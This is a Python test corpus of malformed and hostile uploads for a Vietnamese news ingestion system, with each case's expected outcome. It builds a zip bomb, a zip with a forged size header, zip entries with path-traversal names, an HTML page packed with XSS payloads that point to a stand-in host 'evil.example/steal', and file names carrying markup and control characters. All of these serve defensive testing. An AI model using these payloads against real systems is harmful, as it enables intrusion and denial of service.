"""The bad-input corpus: one small function per case, each returning ``Case(filename, data, expected)``.

Every case says what a member of staff must see for that file: the per-file status
(``created``, ``duplicate``, ``possible_duplicate`` or ``failed``), words the message must
contain, and what the stored article must (not) contain. Cases that are a *sequence* of
uploads (the same file twice, an article re-saved with other boilerplate) return a tuple of
cases, uploaded in order.

Big cases (20 MB file, 5 MB line, 5,000-file zip, zip bomb) are generated at test time, and
written to ``tmp_path`` so the ``ingest`` command can be pointed at them; nothing big is
committed. Small hand-written files live in ``tests/reliability/corpus/``. All Vietnamese
text here is invented: fictional places, fictional officials.

``expected.status`` is what :func:`articles.ingestion.ingest_file` must return for the raw
bytes. ``expected.batch`` is what a *batch* (admin upload, ``manage.py ingest``) must report,
entry by entry, when the file is a zip: ``((label_suffix, status), ...)``.
"""

import functools
import random
import struct
import unicodedata
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

from tests.reliability.material import make_zip, to_cp1258, vi_article

CORPUS_DIR = Path(__file__).resolve().parent / "corpus"
MB = 1024 * 1024

CREATED, DUPLICATE, POSSIBLE, FAILED = "created", "duplicate", "possible_duplicate", "failed"
STORED = (CREATED, POSSIBLE)  # statuses that store a new article


@dataclass(frozen=True)
class Expect:
    status: str | tuple[str, ...]
    message: tuple[str, ...] = ()  # each of these (case-insensitive) appears in the message
    body_has: tuple[str, ...] = ()  # the stored article's body contains these (NFC)
    body_lacks: tuple[str, ...] = ()
    headline_has: str = ""
    batch: tuple[tuple[str, str], ...] = ()  # zip entries: (label ends with, status)

    def allows(self, status):
        return status in ((self.status,) if isinstance(self.status, str) else self.status)

    @property
    def stores(self):
        return any(self.allows(s) for s in STORED)


@dataclass(frozen=True)
class Case:
    filename: str
    data: bytes = field(repr=False)
    expected: Expect
    name: str = ""


# ------------------------------------------------------------------------------ text material


def _headline(text):
    return text.split("\n", 1)[0]


def _good(seed, filename, **expect):
    text = vi_article(seed)
    return Case(filename, text.encode("utf-8"), Expect(CREATED, headline_has=_headline(text), **expect))


def _write(tmp_path, filename, data):
    if tmp_path is not None:
        (Path(tmp_path) / filename).write_bytes(data)


# ------------------------------------------------------------------------------ empty and binary


def case_empty(tmp_path=None):
    return Case("rong.txt", b"", Expect(FAILED, message=("rỗng",)))


def case_whitespace_only(tmp_path=None):
    return Case("chi-khoang-trang.txt", b"  \n\t\r\n   \n", Expect(FAILED, message=("rỗng",)))


def case_unicode_blank(tmp_path=None):
    # a UTF-8 BOM, no-break spaces, ideographic spaces and zero-width spaces: nothing to read
    return Case("trang-unicode.txt", "\ufeff\u00a0\u3000\u200b \u00a0\n".encode(), Expect(FAILED))


def case_png_named_txt(tmp_path=None):
    png = (
        b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
        + b"\x90wS\xde" + struct.pack(">I", 12) + b"IDAT" + zlib.compress(b"\x00\xff\x00\x00") + b"\x00\x00\x00\x00IEND\xaeB`\x82"
    )
    return Case("anh-chup.txt", png, Expect(FAILED, message=("PNG",)))


def case_pdf_named_txt(tmp_path=None):
    pdf = (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >>"
        b" endobj\nxref\n0 3\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )
    return Case("van-ban.txt", pdf, Expect(FAILED, message=("PDF",)))


def case_random_bytes_named_txt(tmp_path=None):
    return Case("ngau-nhien.txt", random.Random(7).randbytes(8192), Expect(FAILED))


def case_jpeg_named_html(tmp_path=None):
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + random.Random(8).randbytes(2000)
    return Case("trang.html", jpeg, Expect(FAILED, message=("JPEG",)))


# ------------------------------------------------------------------------------ encodings


def case_utf16_le_bom(tmp_path=None):
    text = vi_article(101)
    return Case("utf16-le.txt", text.encode("utf-16"), Expect(CREATED, headline_has=_headline(text), body_has=("Chủ tịch UBND xã",)))


def case_utf16_be_no_bom(tmp_path=None):
    text = vi_article(102)
    return Case("utf16-be.txt", text.encode("utf-16-be"), Expect(CREATED, headline_has=_headline(text), body_has=("Phó Chủ tịch",)))


def case_windows_1258(tmp_path=None):
    text = vi_article(103)
    data = to_cp1258(text)
    assert data.decode("cp1258") != text  # really decomposed, as Windows-1258 writes it
    return Case("cp1258.txt", data, Expect(CREATED, headline_has=_headline(text), body_has=("thường kỳ",)))


def case_mojibake_cp1252(tmp_path=None):
    # UTF-8 bytes once read as Windows-1252 and saved again as UTF-8: "Chá»§ tá»‹ch"
    text = vi_article(104)
    garbled = text.encode("utf-8").decode("cp1252", errors="replace").replace("\ufffd", "?")
    return Case("mojibake-cp1252.txt", garbled.encode("utf-8"), Expect(CREATED, body_has=("Chủ tịch UBND xã",)))


def case_mojibake_latin1(tmp_path=None):
    # The same mistake with ISO-8859-1, which also maps bytes 0x80-0x9F (to C1 control characters)
    text = vi_article(105)
    garbled = text.encode("utf-8").decode("latin-1")
    return Case("mojibake-latin1.txt", garbled.encode("utf-8"), Expect(CREATED, body_has=("Chủ tịch UBND xã",)))


def case_nfd(tmp_path=None):
    text = vi_article(106)
    data = unicodedata.normalize("NFD", text).encode("utf-8")
    assert data != text.encode("utf-8")
    return Case("nfd.txt", data, Expect(CREATED, headline_has=_headline(text), body_has=("Chủ tịch UBND xã", "thường kỳ")))


def case_utf8_bom_crlf(tmp_path=None):
    text = vi_article(107)
    return Case("windows-notepad.txt", b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode(), Expect(CREATED, headline_has=_headline(text)))


def case_control_characters(tmp_path=None):
    # Text pasted from a terminal / a PDF viewer: bell, escape sequences, form feed, zero-width and
    # bidi marks, a soft hyphen, a lone CR and a Unicode line separator.
    text = vi_article(108)
    first, rest = text.split("\n", 1)
    dirty = first + "\x07\r\n\x1b[31m" + rest.replace("UBND", "UB\u00adND", 1).replace(" ", " \u200b", 3) \
        + "\x0c\u2028Hết.\x1b[0m\r"
    return Case("dan-tu-terminal.txt", dirty.encode(), Expect(CREATED, body_has=("Chủ tịch",), body_lacks=("\x07", "\x1b", "\x0c")))


def case_stray_nul(tmp_path=None):
    # One NUL byte in otherwise good text: either stored without it or refused clearly, never a crash.
    text = vi_article(109)
    return Case("co-nul.txt", text.replace("\n", "\n\x00", 1).encode(), Expect((CREATED, FAILED), body_lacks=("\x00",)))


# ------------------------------------------------------------------------------ size


@functools.lru_cache(maxsize=1)
def _text_20mb():
    unit = vi_article(110).encode()
    return (unit * (20 * MB // len(unit) + 1))[: 20 * MB]


def case_20mb_text(tmp_path=None):
    data = _text_20mb()
    _write(tmp_path, "qua-lon-20mb.txt", data)
    return Case("qua-lon-20mb.txt", data, Expect(FAILED, message=("10 MB",)))


@functools.lru_cache(maxsize=1)
def _line_5mb():
    rng = random.Random(111)
    words = "đồng chí chủ trì hội nghị tỉnh ủy huyện xã thôn bản kết quả triển khai nghị quyết năm".split()
    head = "Một dòng rất dài không xuống dòng của xã Tân Lập phiên 111: "
    out, size = [head], len(head.encode())
    while size < 5 * MB:
        w = rng.choice(words)
        out.append(w + " ")
        size += len(w.encode()) + 1
    data = "".join(out).encode()[: 5 * MB].rsplit(b" ", 1)[0]
    assert b"\n" not in data
    return data


def case_5mb_single_line(tmp_path=None):
    data = _line_5mb()
    _write(tmp_path, "mot-dong-5mb.txt", data)
    return Case("mot-dong-5mb.txt", data, Expect(CREATED, body_has=("Một dòng rất dài",)))


# ------------------------------------------------------------------------------ zips


@functools.lru_cache(maxsize=1)
def _zip_5000():
    # The same short report saved 5,000 times (a site mirror): storing one and recognising the copies is
    # quick, so the test measures the limits, not the extractor's speed.
    article = vi_article(400).encode()
    return make_zip([(f"bai/{i:05d}.txt", article) for i in range(5000)])


def case_zip_5000_files(tmp_path=None):
    data = _zip_5000()
    _write(tmp_path, "nam-nghin-tep.zip", data)
    # As a single file it is not text; as a batch, the limit per batch (2,000 files) applies and the
    # files past it are reported, not silently dropped.
    return Case(
        "nam-nghin-tep.zip", data,
        Expect(FAILED, message=("ZIP",), batch=(("bai/00000.txt", CREATED), ("bai/01999.txt", DUPLICATE), ("bai/02000.txt", FAILED))),
    )


@functools.lru_cache(maxsize=1)
def _bomb():
    # 200 MB of one letter compresses to ~200 KB: a 1000:1 ratio, far beyond anything a text file has
    data = make_zip([("bom/khong-lo.txt", b"a" * (200 * MB)), ("bom/tot.txt", vi_article(112).encode())])
    assert len(data) < 1 * MB
    return data


def case_zip_bomb(tmp_path=None):
    data = _bomb()
    _write(tmp_path, "zip-bomb.zip", data)
    return Case("zip-bomb.zip", data, Expect(FAILED, batch=(("bom/khong-lo.txt", FAILED), ("bom/tot.txt", CREATED))))


@functools.lru_cache(maxsize=1)
def _lying():
    # A bomb whose headers claim a tiny uncompressed size; the good entry comes first
    good = vi_article(113).encode()
    raw = make_zip([("doi/tot.txt", good), ("doi/noi-doi.txt", b"b" * (50 * MB))])
    real = struct.pack("<I", 50 * MB)
    fake = struct.pack("<I", 1000)
    # patch the uncompressed size in the local header and the central directory of the second entry
    second = raw.index(b"doi/noi-doi.txt")
    local = raw.rindex(b"PK\x03\x04", 0, second)
    data = bytearray(raw)
    assert data[local + 22 : local + 26] == real
    data[local + 22 : local + 26] = fake
    central_name = raw.index(b"doi/noi-doi.txt", second + 1)
    central = raw.rindex(b"PK\x01\x02", 0, central_name)
    assert data[central + 24 : central + 28] == real
    data[central + 24 : central + 28] = fake
    return bytes(data)


def case_zip_lying_header(tmp_path=None):
    data = _lying()
    _write(tmp_path, "zip-noi-doi.zip", data)
    return Case("zip-noi-doi.zip", data, Expect(FAILED, batch=(("doi/tot.txt", CREATED), ("doi/noi-doi.txt", FAILED))))


def case_zip_corrupt_entry_then_good(tmp_path=None):
    # A damaged entry (CRC mismatch) must not cost the good entry that follows it
    bad, good = vi_article(114).encode(), vi_article(115).encode()
    raw = make_zip([("hong/bi-hong.txt", bad), ("hong/tot.txt", good)], compression=zipfile.ZIP_STORED)
    data = bytearray(raw)
    pos = raw.index(bad)
    data[pos + 10] ^= 0x01  # flip one bit in the stored bytes: the CRC no longer matches
    data = bytes(data)
    _write(tmp_path, "zip-hong.zip", data)
    return Case("zip-hong.zip", data, Expect(FAILED, batch=(("hong/bi-hong.txt", FAILED), ("hong/tot.txt", CREATED))))


def case_zip_path_traversal(tmp_path=None):
    data = make_zip([
        ("../../../tmp/vankho-thoat-ra.txt", vi_article(116).encode()),
        ("/etc/vankho-tuyet-doi.txt", vi_article(117).encode()),
        ("..\\..\\windows\\vankho.txt", vi_article(118).encode()),
        ("C:/vankho-o-dia.txt", vi_article(119).encode()),
        ("an-toan/bai-tot.txt", vi_article(120).encode()),
    ])
    _write(tmp_path, "duong-dan-xau.zip", data)
    return Case("duong-dan-xau.zip", data, Expect(FAILED, batch=(
        ("vankho-thoat-ra.txt", FAILED), ("vankho-tuyet-doi.txt", FAILED), ("vankho.txt", FAILED),
        ("vankho-o-dia.txt", FAILED), ("an-toan/bai-tot.txt", CREATED),
    )))


def case_zip_in_zip(tmp_path=None):
    inner = make_zip([("trong/bai.txt", vi_article(121).encode())])
    data = make_zip([("ngoai/long.zip", inner), ("ngoai/bai.txt", vi_article(122).encode())])
    _write(tmp_path, "zip-long-zip.zip", data)
    return Case("zip-long-zip.zip", data, Expect(FAILED, batch=(("ngoai/long.zip", FAILED), ("ngoai/bai.txt", CREATED))))


def case_not_really_a_zip(tmp_path=None):
    return Case("gia-zip.zip", b"PK\x03\x04 this is not a zip archive at all" * 10, Expect(FAILED, batch=(("gia-zip.zip", FAILED),)))


# ------------------------------------------------------------------------------ active content

XSS_MARKER = "vankhoPWNED"

ACTIVE_HTML = f"""<!DOCTYPE html>
<html lang="vi"><head><meta charset="utf-8">
<title>Hội nghị <script>window.{XSS_MARKER}=1</script>cán bộ xã Phong Nậm</title>
<meta http-equiv="refresh" content="0;url=javascript:window.{XSS_MARKER}=2">
<base href="javascript:window.{XSS_MARKER}=3//">
<script>window.{XSS_MARKER}=4; document.title="{XSS_MARKER}";</script>
<script src="https://evil.example/x.js"></script>
<style>body{{background:url("javascript:window.{XSS_MARKER}=5")}}</style>
</head>
<body onload="window.{XSS_MARKER}=6">
<article>
<h1>Hội nghị cán bộ xã Phong Nậm &lt;script&gt;alert(1)&lt;/script&gt;</h1>
<p>Ngày 3/4/2024, Đảng ủy xã Phong Nậm tổ chức hội nghị cán bộ chủ chốt. Đồng chí Mai Văn Khiêm, Bí thư Đảng ủy xã, chủ trì hội nghị.</p>
<p onmouseover="window.{XSS_MARKER}=7">Hội nghị bàn cách <a href="javascript:window.{XSS_MARKER}=8">đẩy nhanh</a> tiến độ làm đường liên thôn
<img src="x" onerror="window.{XSS_MARKER}=9"> và kiên cố hóa kênh mương nội đồng.</p>
<iframe src="https://evil.example/" srcdoc="<script>parent.{XSS_MARKER}=10</script>"></iframe>
<svg onload="window.{XSS_MARKER}=11"><script>window.{XSS_MARKER}=12</script></svg>
<form action="https://evil.example/steal"><input name="q" autofocus onfocus="window.{XSS_MARKER}=13"></form>
<p>Đồng chí Mai Văn Khiêm đề nghị các thôn huy động nhân dân góp công, góp đất để làm đường.</p>
<p>&lt;img src=x onerror=alert(1)&gt; là chuỗi văn bản người viết bài gõ vào, phải hiện đúng như chữ.</p>
</article></body></html>
"""


def case_html_active_content(tmp_path=None):
    return Case(
        "noi-dung-chu-dong.html", ACTIVE_HTML.encode(),
        Expect(CREATED, body_has=("Phong Nậm", "Mai Văn Khiêm"), body_lacks=(f"window.{XSS_MARKER}=4", "evil.example")),
    )


def case_html_active_content_as_txt(tmp_path=None):
    # The same markup with a .txt name: shown as text or stripped, never rendered
    html = ACTIVE_HTML.replace("Phong Nậm", "Phong Thổ").replace("Mai Văn Khiêm", "Mai Văn Khiết")
    return Case("noi-dung-chu-dong.txt", html.encode(), Expect(CREATED, body_has=("Phong Thổ",)))


def case_html_only_script(tmp_path=None):
    html = f"<html><head><script>window.{XSS_MARKER}=14</script></head><body><script>alert(1)</script></body></html>"
    return Case("chi-co-script.html", html.encode(), Expect(FAILED))


def case_handwritten_html(tmp_path=None):
    data = (CORPUS_DIR / "tiep-xuc-cu-tri.html").read_bytes()
    return Case("tiep-xuc-cu-tri.html", data, Expect(CREATED, body_has=("cầu treo bản Khe Nứa",)))


def case_handwritten_txt(tmp_path=None):
    data = (CORPUS_DIR / "hoi-nghi-bao-cao.txt").read_bytes()
    return Case("hoi-nghi-bao-cao.txt", data, Expect(CREATED, headline_has="Mường Khoa", body_has=("Lò Văn Thắm",)))


# ------------------------------------------------------------------------------ file names


def case_name_with_markup(tmp_path=None):
    return _good(201, 'Bài "trích dẫn" <img src=x onerror=alert(1)> & ; \'x\'.txt')


def case_name_very_long(tmp_path=None):
    return _good(202, "bài-" + "rất-dài-" * 60 + ".txt")


def case_name_path_like(tmp_path=None):
    return _good(203, "..\\..\\windows\\system32\\bai.txt")


def case_name_rtl_override_and_emoji(tmp_path=None):
    return _good(204, "báo cáo \u202egnp.txt 🏛️ ｆｕｌｌ.txt")


def case_name_nfd(tmp_path=None):
    return _good(205, unicodedata.normalize("NFD", "Hội nghị tỉnh ủy.txt"))


def case_name_control_characters(tmp_path=None):
    return _good(206, "dòng\nmới\ttab\x00nul\x1b[31m.txt")


def case_name_empty(tmp_path=None):
    return _good(207, "")


# ------------------------------------------------------------------------------ sequences


def case_same_file_twice(tmp_path=None):
    text = vi_article(301)
    data = text.encode()
    return (
        Case("hai-lan.txt", data, Expect(CREATED, headline_has=_headline(text))),
        Case("hai-lan-ban-sao.txt", data, Expect(DUPLICATE, message=("Trùng",))),
    )


def _page(body_html, *, nav, footer, aside):
    return f"""<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8">
<title>Thường trực Tỉnh ủy Lâm Xuyên làm việc với huyện Khe Sanh Mới</title></head><body>
<header><nav>{nav}</nav></header><main><article>
<h1>Thường trực Tỉnh ủy Lâm Xuyên làm việc với huyện Khe Sanh Mới</h1>{body_html}</article>
<aside>{aside}</aside></main><footer>{footer}</footer></body></html>"""


_RESAVED_BODY = """
<p>Sáng 21/8/2024, Thường trực Tỉnh ủy Lâm Xuyên làm việc với Ban Thường vụ Huyện ủy Khe Sanh Mới về tình hình thực hiện nhiệm vụ chính trị sáu tháng đầu năm.</p>
<p>Đồng chí Vi Thị Hồng Nhung, Bí thư Tỉnh ủy, chủ trì buổi làm việc. Cùng dự có đồng chí Lục Văn Toản, Phó Bí thư Thường trực Tỉnh ủy.</p>
<p>Báo cáo của huyện cho biết tổng giá trị sản xuất tăng 7,2% so với cùng kỳ; thu ngân sách đạt 61% dự toán; tỷ lệ hộ nghèo giảm 3,1%.</p>
<p>Kết luận buổi làm việc, đồng chí Vi Thị Hồng Nhung yêu cầu huyện tập trung giải phóng mặt bằng các công trình trọng điểm và chăm lo đời sống đồng bào vùng biên.</p>
"""


def case_resaved_with_other_boilerplate(tmp_path=None):
    first = _page(
        _RESAVED_BODY,
        nav='<a href="/">Trang chủ</a> <a href="/chinh-tri">Chính trị</a>',
        footer="© Báo Lâm Xuyên. Giấy phép số 12/GP-BTTTT.",
        aside="<h3>Tin liên quan</h3><ul><li>Khai mạc hội chợ nông sản</li></ul>",
    )
    second = _page(
        _RESAVED_BODY,
        nav='<a href="/">TRANG CHỦ</a> <a href="/xa-hoi">Xã hội</a> <a href="/the-thao">Thể thao</a> <a href="/video">Video</a>',
        footer="Bản quyền © 2024 Cổng thông tin điện tử tỉnh Lâm Xuyên. Ghi rõ nguồn khi phát hành lại.",
        aside="<h3>Đọc nhiều</h3><ul><li>Dự báo thời tiết cuối tuần</li><li>Giá lúa hôm nay</li></ul>",
    )
    return (
        Case("lam-viec-ban-goc.html", first.encode(), Expect(CREATED, body_has=("Vi Thị Hồng Nhung",), body_lacks=("Giấy phép số",))),
        Case("lam-viec-dang-lai.html", second.encode(), Expect(POSSIBLE, message=("trùng",), body_lacks=("Ghi rõ nguồn",))),
    )


# ------------------------------------------------------------------------------ registry

BIG = {"case_20mb_text", "case_5mb_single_line", "case_zip_5000_files", "case_zip_bomb", "case_zip_lying_header"}
ALL = {name: fn for name, fn in sorted(globals().items()) if name.startswith("case_") and callable(fn)}


def as_list(result):
    return list(result) if isinstance(result, tuple) else [result]


def build(name, tmp_path=None):
    cases = as_list(ALL[name](tmp_path))
    return [Case(c.filename, c.data, c.expected, name=name) for c in cases]


def is_zip(case):
    return case.filename.lower().endswith(".zip")
